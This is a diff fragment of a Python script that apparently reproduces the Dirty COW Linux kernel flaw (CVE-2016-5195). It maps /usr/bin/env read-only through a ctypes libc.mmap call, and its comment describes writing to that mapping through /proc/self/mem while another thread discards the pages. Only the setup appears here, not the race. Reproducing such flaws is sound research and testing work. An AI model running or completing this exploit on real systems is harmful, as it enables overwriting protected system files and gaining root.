@@ -2,11 +2,9 @@
 # The program writes to a read-only mapping of a system file through /proc/self/mem, while another thread discards the mapped pages
 # (CVE-2016-5195).
 # layers: kernel
-import mmap, threading
+import threading
 with open("/usr/bin/env", "rb") as f:
     before = f.read(4096)
-    m = mmap.mmap(f.fileno(), 4096, mmap.MAP_PRIVATE, mmap.PROT_READ)
-address = ctypes.c_void_p()
 libc.mmap.restype = ctypes.c_void_p
 fd = os.open("/usr/bin/env", os.O_RDONLY)
 at = libc.mmap(None, ctypes.c_size_t(4096), 1, 2, fd, ctypes.c_long(0))
